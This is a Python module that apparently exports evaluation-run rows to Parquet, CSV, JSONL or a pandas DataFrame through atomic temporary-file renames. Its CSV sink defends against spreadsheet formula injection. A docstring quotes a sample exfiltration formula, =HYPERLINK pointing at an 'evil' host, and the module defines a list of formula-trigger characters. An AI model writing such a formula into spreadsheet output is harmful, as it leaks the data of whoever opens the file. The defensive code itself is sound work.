"""Where rows go: a Parquet, CSV or JSONL file, written row by row, or a pandas DataFrame.

A file sink holds at most one Parquet row group (:data:`ROW_GROUP_ROWS` rows, or fewer once
their text reaches :data:`ROW_GROUP_TEXT_BYTES`); CSV and JSONL hold one row. The file is
written beside its destination under a temporary name, readable by its owner only (it holds
what the spool holds), and renamed into place when the table is whole, so a reader never
opens half a table and a failed export leaves the old file as it was.
"""

from __future__ import annotations

import contextlib
import csv
import os
import re
import secrets
from pathlib import Path
from typing import IO, Any, Protocol

import orjson

from prime_runs_spool.content.supersede import VERIFIERS_TRACES_NAME
from prime_runs_spool.errors import ExportSetupError
from prime_runs_spool.export.columns import BOOL, FLOAT, INT, TEXT, Column
from prime_runs_spool.files import folder_blocker, open_private, special_file_kind
from prime_runs_spool.importer.paths import V0_METADATA_NAME, V0_RESULTS_NAME, is_eval_output_dir
from prime_runs_spool.spool.layout import SPOOL_DIRNAME, is_run_dir, run_lock_path

FORMATS = ("parquet", "csv", "jsonl")
#: Rows per Parquet row group, at most...
ROW_GROUP_ROWS = 10_000
#: ...and the text (prompts, answers) a row group holds before it is written anyway.
ROW_GROUP_TEXT_BYTES = 8 * 1024 * 1024
#: How to get pyarrow: the package is on no index, so its extra is named for a clone.
PARQUET_EXTRA = "pip install pyarrow (from a clone of prime-runs-spool, pip install -e '.[export]' does the same)"


class Sink(Protocol):
    def write(self, row: dict[str, Any]) -> None: ...

    def close(self) -> None: ...

    def discard(self) -> None: ...


def format_of(path: Path, given: str | None) -> str:
    """The format asked for, else the one the file's suffix names."""
    if given:
        return given
    suffix = path.suffix.lower().lstrip(".")
    if suffix in FORMATS:
        return suffix
    raise ExportSetupError(f"{path}: say which format with --format {'|'.join(FORMATS)} (or name the file "
                           f"*.parquet, *.csv or *.jsonl)")


def refuse_run_file(path: Path) -> None:
    """Raise :class:`ExportSetupError` when ``path`` names a file a run is made of: anything
    in a run's ``spool/`` folder (segments, locks, sync state) or the eval's own output file
    in its folder (``traces.jsonl``, ``metadata.json``, ``results.jsonl``). The export
    replaces its file whole, so such a ``-o`` would lose the run's episodes."""
    real = Path(os.path.realpath(path.parent)) / path.name  # links and ".." as the rename will meet them
    for folder in real.parents:
        try:
            of_a_run = folder.name == SPOOL_DIRNAME and (is_run_dir(folder.parent)
                                                        or run_lock_path(folder.parent).exists())
        except OSError:  # cannot be looked into: nothing to lose there that this could tell
            of_a_run = False
        if of_a_run:
            raise ExportSetupError(f"{path}: it is in the spool of the run in {folder.parent}, which the export "
                                   "would replace; write the table elsewhere")
    if real.name in (VERIFIERS_TRACES_NAME, V0_METADATA_NAME, V0_RESULTS_NAME) and is_eval_output_dir(real.parent):
        raise ExportSetupError(f"{path}: it is the eval's own {real.name}, which the export would replace; "
                               "write the table elsewhere")


def refuse_special_file(path: Path) -> None:
    """Raise :class:`ExportSetupError` when ``path`` is a device, a FIFO or a socket
    (``/dev/null``, ``/dev/stdout``, a named pipe): the table is written beside it and
    renamed over it, which would put a regular file in its place (``/dev/null`` itself,
    for root) and leave whoever reads the pipe waiting."""
    kind = special_file_kind(path)
    if kind is not None:
        raise ExportSetupError(f"{path}: it is {kind}, not a regular file: the export writes a file and renames it "
                               "into place, which would replace it; give the path of a file")
    stream = _system_link(path)
    if stream is not None:
        raise ExportSetupError(f"{path}: it is {stream}, not a file: the export writes a file and renames it into "
                               "place, which would replace the link (the table is never standard output); give the "
                               "path of a file")


#: Where the system's own links live: /dev/stdout and /dev/fd/N lead to /proc/self/fd/N.
_SYSTEM_FOLDERS = ("/dev/", "/proc/")


def _system_link(path: Path) -> str | None:
    """What ``path`` is when it is a link of the system's or leads through one: in /proc
    (``/proc/self/fd/1``), or a symbolic link whose target, at any hop, is in /dev or /proc
    (``/dev/stdout``, a link to it). Followed, such a link is a standard stream, which may be
    a regular file (``> table.csv``), so :func:`special_file_kind` passes it; the rename then
    put the table in place of ``/dev/stdout`` itself (for root) and nothing on the stream."""
    where = os.path.join(os.path.realpath(path.parent), path.name)
    if (where + "/").startswith("/proc/"):
        return "in /proc, a standard stream or the system's"
    for _ in range(40):  # the kernel's own limit on links followed
        try:
            target = os.readlink(where)
        except OSError:  # not a link (or nothing there): what it is, a file, is the rename's to replace
            return None
        where = os.path.normpath(os.path.join(os.path.dirname(where), target))
        if where.startswith(_SYSTEM_FOLDERS):
            return f"a symbolic link to {target}, a standard stream or the system's"
    return None


def open_sink(path: Path, fmt: str, columns: list[Column], *, csv_raw: bool = False) -> Sink:
    if fmt == "parquet":
        return ParquetSink(path, columns)
    if fmt == "csv":
        return CsvSink(path, columns, raw=csv_raw)
    if fmt == "jsonl":
        return JsonlSink(path, columns)
    raise ExportSetupError(f"unknown format {fmt!r}: one of {', '.join(FORMATS)}")


def require_pyarrow() -> Any:
    try:
        import pyarrow
        import pyarrow.parquet  # noqa: F401
    except ImportError:
        raise ExportSetupError(f"Parquet needs pyarrow: {PARQUET_EXTRA} (or export --format csv or jsonl)") from None
    return pyarrow


def _temporary_prefix(path: Path) -> str:
    """How this process's temporary files for ``path`` begin (beside it, hidden)."""
    return f".{path.name}.{os.getpid()}-"


def remove_temporaries(path: Path) -> None:
    """Remove this process's temporary files for ``path``: an export stopped (a Ctrl-C) in
    a moment no sink could discard its own (as the file was created, before the caller held
    the sink) left one behind, one run in a few hundred of a full test run."""
    prefix = _temporary_prefix(path)
    with contextlib.suppress(OSError):
        for name in os.listdir(path.parent):
            if name.startswith(prefix) and name.endswith(".tmp"):
                with contextlib.suppress(OSError):
                    os.unlink(path.parent / name)


class _FileSink:
    """The temporary file beside the destination, renamed into place by :meth:`close`."""

    def __init__(self, path: Path, columns: list[Column]) -> None:
        self.path = path
        self.columns = columns
        self.names = [column.name for column in columns]
        folder = path.parent
        if not folder.is_dir():  # say what is in the way: a file there is not 'does not exist'
            in_the_way = folder_blocker(folder / path.name)
            raise ExportSetupError(f"{path}: {in_the_way}" if in_the_way else f"{path}: its folder {folder} does not exist")
        self.temp = folder / f"{_temporary_prefix(path)}{secrets.token_hex(4)}.tmp"
        self.fd = open_private(self.temp, os.O_WRONLY | os.O_EXCL | os.O_NOFOLLOW)
        file = None
        try:
            file = self.file = os.fdopen(self.fd, **self._FILE)
            self._begin()
        except BaseException:  # a Ctrl-C as the header was written: the caller has no sink to discard
            file.close() if file is not None else os.close(self.fd)
            os.unlink(self.temp)
            raise

    #: How :attr:`file` is opened over the temporary file's descriptor.
    _FILE: dict[str, Any] = {"mode": "wb"}
    #: The file object over :attr:`fd` that each kind of sink writes through.
    file: IO[Any]

    def _begin(self) -> None:
        """What a file of this kind begins with (a header), written by the constructor, which
        removes the temporary file if anything raises there: a Ctrl-C as the header was
        written left it behind, since the caller that discards a failed export had no sink."""

    def close(self) -> None:
        """The file complete: closed and renamed over the destination."""
        self.file.close()
        os.replace(self.temp, self.path)

    def discard(self) -> None:
        """The export failed or was stopped: the temporary file goes, the destination stays as it was."""
        self.file.close()
        try:
            os.unlink(self.temp)
        except FileNotFoundError:
            pass


class JsonlSink(_FileSink):
    _FILE = {"mode": "wb", "buffering": 1 << 20}

    def write(self, row: dict[str, Any]) -> None:
        self.file.write(orjson.dumps({name: row.get(name) for name in self.names}) + b"\n")


def _csv_value(value: Any) -> Any:
    if value is None:
        return ""
    if value is True:
        return "true"
    if value is False:
        return "false"
    return value


#: How a text cell a spreadsheet would run as a formula begins (OWASP's list: ``=``, ``+``,
#: ``-``, ``@``, a tab, a CR), and ``'``, the mark :func:`spreadsheet_text` adds, so that a
#: cell beginning with it always had one added and the value is that cell less one ``'``.
FORMULA_STARTS = frozenset("=+-@\t\r'")
#: A plain number (``-3``, ``+0.5``, ``-1e-06``): a spreadsheet reads it as the number, runs nothing.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_text(value: str) -> str:
    """``value`` as a spreadsheet shows it as text, not runs it: a ``'`` before a text cell
    beginning with one of :data:`FORMULA_STARTS` that is no plain number. The spool's text
    is what a model and a task set wrote: an answer ``=HYPERLINK("https://evil/?"&A1)``
    opened in a spreadsheet runs there, with the reader's data."""
    if value[:1] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class CsvSink(_FileSink):
    """RFC 4180: a header row, CRLF line ends, fields quoted where they hold a comma, a quote, a CR or an LF;
    an empty field is a missing value, ``true``/``false`` a boolean. A text cell a
    spreadsheet would run as a formula begins with ``'`` (:func:`spreadsheet_text`) unless
    ``raw``: a CSV is opened in a spreadsheet as often as read by a program."""

    _FILE = {"mode": "w", "encoding": "utf-8", "newline": "", "buffering": 1 << 20}

    def __init__(self, path: Path, columns: list[Column], *, raw: bool = False) -> None:
        self.plan = [(column.name, column.kind == TEXT and not raw) for column in columns]
        super().__init__(path, columns)

    def _begin(self) -> None:
        self.writer = csv.writer(self.file, lineterminator="\r\n")  # so a lone \r in a field is quoted too
        self.writer.writerow(self.names)  # fixed names, and metric:<name>: none begins as a formula

    def write(self, row: dict[str, Any]) -> None:
        self.writer.writerow([spreadsheet_text(value) if text and value else _csv_value(value)
                              for name, text in self.plan for value in (row.get(name),)])


def arrow_schema(columns: list[Column]) -> Any:
    pa = require_pyarrow()
    types = {TEXT: pa.string(), INT: pa.int64(), FLOAT: pa.float64(), BOOL: pa.bool_()}
    return pa.schema([pa.field(column.name, types[column.kind]) for column in columns])


class ParquetSink(_FileSink):
    """One schema for the whole file (the columns are known before the first row); rows are
    gathered column by column and written a row group at a time."""

    def __init__(self, path: Path, columns: list[Column]) -> None:
        pa = require_pyarrow()
        import pyarrow.parquet as pq

        self.pa, self.pq = pa, pq
        self.schema = arrow_schema(columns)
        super().__init__(path, columns)
        self.text_columns = [column.name for column in columns if column.kind == TEXT]
        self._reset()

    def _begin(self) -> None:
        self.writer = self.pq.ParquetWriter(self.file, self.schema, compression="zstd")

    def _reset(self) -> None:
        self.buffer: dict[str, list[Any]] = {name: [] for name in self.names}
        self.rows = 0
        self.text_bytes = 0

    def write(self, row: dict[str, Any]) -> None:
        for name, values in self.buffer.items():
            values.append(row.get(name))
        for name in self.text_columns:
            value = row.get(name)
            if value is not None:
                self.text_bytes += len(value)
        self.rows += 1
        if self.rows >= ROW_GROUP_ROWS or self.text_bytes >= ROW_GROUP_TEXT_BYTES:
            self._flush()

    def _flush(self) -> None:
        if self.rows:
            batch = self.pa.record_batch([self.buffer[name] for name in self.names], schema=self.schema)
            self.writer.write_batch(batch)
            del batch
        self._reset()

    def close(self) -> None:
        self._flush()
        self.writer.close()
        super().close()

    def discard(self) -> None:
        try:
            self.writer.close()
        finally:
            super().discard()


class FrameSink:
    """Rows gathered column by column for a pandas DataFrame (which holds them all)."""

    _DTYPES = {TEXT: "string", INT: "Int64", FLOAT: "float64", BOOL: "boolean"}

    def __init__(self, columns: list[Column]) -> None:
        self.columns = columns
        self.buffer: dict[str, list[Any]] = {column.name: [] for column in columns}

    def write(self, row: dict[str, Any]) -> None:
        for name, values in self.buffer.items():
            values.append(row.get(name))

    def frame(self) -> Any:
        import pandas as pd

        data = {}
        for column in self.columns:
            values = self.buffer[column.name]
            if column.kind == FLOAT:
                values = [float("nan") if value is None else value for value in values]
            data[column.name] = pd.array(values, dtype=self._DTYPES[column.kind])
        return pd.DataFrame(data, columns=[column.name for column in self.columns])
